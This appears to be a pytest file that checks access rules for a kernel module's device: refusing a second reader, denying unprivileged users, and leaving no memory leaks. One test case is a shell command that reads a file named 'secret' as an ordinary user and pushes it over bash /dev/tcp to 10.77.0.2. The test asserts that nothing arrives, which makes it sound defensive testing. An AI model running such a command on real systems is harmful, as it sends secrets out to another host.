# SPDX-License-Identifier: GPL-3.0-or-later
"""The device: who may open and read it. test_label.c tests which requests it refuses."""

import pytest

from tests.kernel.guest_run import Case

SECOND = "agent answer block; echo second $?"
ANNA = "setpriv --reuid 1000 --regid 1000 --clear-groups agent info; echo anna $?"
AFTERWARDS = """
agent=$(agent serve block /run/agent.log)
kill -9 $agent
agent=$(agent serve block /run/agent.log)
leak read write secret
kill $agent
"""


@pytest.mark.parametrize("case", [Case("second-reader", SECOND)], ids=str)
def test_second_reader_is_refused(case, outcome):
    assert "busy" in outcome.output and "second 2" in outcome.output, outcome.describe()


def test_nothing_is_left_of_all_cases(outcomes):
    """The module unloads, and a kernel that looks for memory leaks finds none of the module's."""
    left = outcomes.get("rmmod") or outcomes[""]
    assert left.status == 0 and not left.trouble, left.describe()


@pytest.mark.parametrize("case", [Case("reader-after-another", AFTERWARDS, "none")], ids=str)
def test_stream_is_free_after_its_reader(case, outcome):
    assert len(outcome.questions) == 1, outcome.describe()


@pytest.mark.parametrize("case", [Case("unprivileged", ANNA, "none")], ids=str)
def test_device_is_for_the_administrator(case, outcome):
    assert "anna 2" in outcome.output, outcome.describe()


@pytest.mark.parametrize("case", [Case("unprivileged-reader",
                                       "chmod 755 . ; chmod 644 secret; setpriv --reuid 1000 --regid 1000 --clear-groups "
                                       "bash -c 'x=$(<secret); echo ${x//$'\"'\\\\n'\"'/ } > /dev/tcp/10.77.0.2/9'")], ids=str)
def test_label_holds_for_ordinary_users(case, outcome):
    assert outcome.questions and outcome.received == b"", outcome.describe()
